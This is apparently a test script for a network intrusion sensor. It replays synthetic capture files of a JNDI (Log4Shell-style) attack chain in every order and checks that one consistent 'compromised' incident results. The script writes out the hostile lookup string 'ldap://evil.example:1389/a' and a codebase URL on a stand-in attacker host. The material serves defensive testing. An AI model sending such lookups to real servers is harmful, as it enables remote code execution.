#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""orders.py SENSOR: the flows of one attack, a capture file each, are read in every order, and come to the same.

Lookup, name, callback with a reference, class, second stage: whichever is read first, at the end there is one incident with
all stages and the verdict that the attack has in its own order. The least of them is read with two workers, too.
"""
import itertools
import json
import pathlib
import subprocess
import sys
import tempfile

import sensor as lab
from tale import EVIL, OTHER, Tale


def attack():
    """The tale, and the places where its flows are cut apart."""
    tale, cuts = Tale(), []
    steps = [lambda: tale.lookup("ldap://evil.example:1389/a"), lambda: tale.asks("evil.example", answer=EVIL),
             lambda: tale.search(codebase="http://%s:8888/" % EVIL), tale.fetch, tale.hello]
    for step in steps:
        step()
        cuts.append(len(tale.frames))
    tale.browse(OTHER)  # somebody else looks at the place: no part of it
    return tale, cuts[:-1]


def replay(program, paths, workers):
    command = [program, "-j", "--deterministic", "--set", "workers=%d" % workers, "-S", str(lab.TOP / "rules/jndi.rules"),
               "-s", str(lab.TOP / "rules/incidents.rules")]
    for path in paths:
        command += ["-r", str(path)]
    run = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=300)
    if run.returncode != 0:
        sys.exit("%s\nexit status %d\n%s" % (" ".join(command), run.returncode, run.stderr.decode(errors="replace")))
    return run.stdout.decode()


def outcome(text):
    """What all orders must agree in: no number, and no time of telling. A connection without words is judged later than
    all else, and part of what is told only when something is told after it."""
    return json.dumps([[story["victim"], story["verdict"], story["confidence"], story["lookup"],
                        [[stage["stage"], stage["count"], stage["first_seen"]] for stage in story["stages"] if stage["stage"] != "connection"]]
                       for story in lab.incidents(text).values()])


def main():
    program, bad = sys.argv[1], []
    tale, cuts = attack()
    with tempfile.TemporaryDirectory() as folder:
        paths = tale.files(pathlib.Path(folder), "flow", cuts)
        wanted = outcome(replay(program, paths, 1))
        if '"compromised"' not in wanted or wanted.count('"10.0.0.1"') != 1:
            sys.exit("in its own order the attack is %s" % wanted)
        orders = list(itertools.permutations(paths))
        for order in orders:
            for workers in (1, 2) if order[0] == paths[-1] and order[-1] == paths[0] else (1,):
                found = outcome(replay(program, order, workers))
                if found != wanted:
                    bad.append("%s, %d workers: %s" % (" ".join(path.stem for path in order), workers, found))
    if bad:
        sys.exit("wanted %s\n%s\n%d of %d orders are wrong" % (wanted, "\n".join(bad[:5]), len(bad), len(orders)))
    print("%d orders, each %s" % (len(orders), wanted))


if __name__ == "__main__":
    main()
